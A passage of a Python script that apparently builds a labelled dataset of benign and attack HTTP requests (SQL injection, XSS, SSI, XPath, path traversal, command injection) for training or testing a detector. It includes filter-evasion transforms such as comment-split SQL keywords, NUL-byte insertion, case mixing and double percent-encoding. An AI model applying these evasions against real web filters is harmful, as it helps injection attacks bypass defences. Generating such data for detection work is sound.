    return "".join(f"\\u{ord(c):04x}" if c in "<>'\"()=;/&" else json.dumps(c)[1:-1] for c in s)


def _comments(s: str) -> str:
    return s.replace(" ", "/**/")


def _split_kw(s: str) -> str:
    return SQL_KEYWORDS.sub(lambda m: m.group(0)[:2] + "/**/" + m.group(0)[2:]
                            if len(m.group(0)) > 3 and m.group(0).lower() in ("union", "select") else m.group(0), s)


def _ws(s: str) -> str:
    return s.replace(" ", RNG.choice(["\t", "\n", "  ", "\r\n", " \t "]))


def _nul(s: str) -> str:
    i = RNG.randrange(len(s) + 1)
    return s[:i] + "\x00" + s[i:]


TEXT_EVASIONS = {
    "raw": lambda s: s, "case": _mixed_case, "ws": _ws, "nul": _nul, "html": _html_ent,
}


def _place(payload: str, where: str, enc: str) -> dict:
    """Puts a payload (already evaded at text level) where a request carries it."""
    if where == "path" and payload.lstrip().startswith(("/", "file:", "c:")):
        where = "query"  # an absolute file name is a value, not a path segment
    if where == "query":
        v = quote_plus(payload) if enc != "pct2" else quote(quote(payload, safe=""), safe="")
        if enc == "pctall":
            v = _pct(payload, all_chars=True)
        return {"where": "query", "kind": "query", "text": RNG.choice(["q=", "id=", "search=", "file=", "host="]) + v}
    if where == "path":
        v = quote(payload, safe="/") if enc != "pct2" else quote(quote(payload, safe="/"), safe="/")
        if enc == "pctall":
            v = _pct(payload, all_chars=True)
        return {"where": "path", "kind": "path", "text": "/api/v1/items/" + v.lstrip("/")}
    if where == "header":
        return {"where": "header", "kind": "header", "text": payload.replace("\n", " ").replace("\r", " ").replace("\x00", "%00")}
    # body: JSON (optionally with \u escapes) or a text/plain / form body
    if enc == "uesc":
        return {"where": "body", "kind": "json", "text": '{"comment": "' + _u_esc(payload) + '"}'}
    if enc == "form":
        return {"where": "body", "kind": "query", "text": "name=x&comment=" + quote_plus(payload)}
    if enc == "text":
        return {"where": "body", "kind": "body", "text": "Hello,\n" + payload + "\nThanks"}
    return {"where": "body", "kind": "json", "text": json.dumps({"user": "o'brien", "comment": payload, "qty": 2})}


def attacks(cls: str, base: list[str], n: int, sql_like: bool = False) -> list[dict]:
    out, seen = [], set()
    wheres = ["query", "path", "header", "body"]
    encs = {"query": ["plain", "plain", "pct2", "pctall"], "path": ["plain", "plain", "pct2", "pctall"],
            "header": ["plain"], "body": ["json", "json", "uesc", "form", "text"]}
    tries = 0
    # every base payload raw in a query and a JSON body first
    for p in base:
        for w in ("query", "body"):
            item = _place(p, w, "plain" if w == "query" else "json")
            out.append({**item, "class": cls})
            seen.add(item["text"])
    while len(out) < n and tries < n * 20:
        tries += 1
        p = RNG.choice(base)
        ev = RNG.choice(list(TEXT_EVASIONS))
        if sql_like and RNG.random() < 0.35:
            p = RNG.choice([_comments, _split_kw])(p)
        p = TEXT_EVASIONS[ev](p)
        w = RNG.choice(wheres)
        item = _place(p, w, RNG.choice(encs[w]))
        if item["text"] in seen:
            continue
        seen.add(item["text"])
        out.append({**item, "class": cls})
    return out


def main() -> None:
    (DATA / "benign").mkdir(parents=True, exist_ok=True)
    (DATA / "attacks").mkdir(parents=True, exist_ok=True)
    items = benign()
    with open(DATA / "benign" / "benign.jsonl", "w", encoding="utf-8") as f:
        for it in items:
            f.write(json.dumps(it, ensure_ascii=False) + "\n")
    sets = {"sql": (SQL_BASE, True), "javascript": (XSS_BASE, False), "ssi": (SSI_BASE, False),
            "xpath": (XPATH_BASE, False), "java_exception": (JAVA_BASE, False),
            "path_traversal": (PT_BASE, False), "command": (CMD_BASE, False)}
    for cls, (base, sql_like) in sets.items():
        rows = attacks(cls, base, 360, sql_like)
        with open(DATA / "attacks" / f"{cls}.jsonl", "w", encoding="utf-8") as f:
            for it in rows:
                f.write(json.dumps(it, ensure_ascii=False) + "\n")
        print(cls, len(rows))
    print("benign", len(items))


if __name__ == "__main__":
    main()
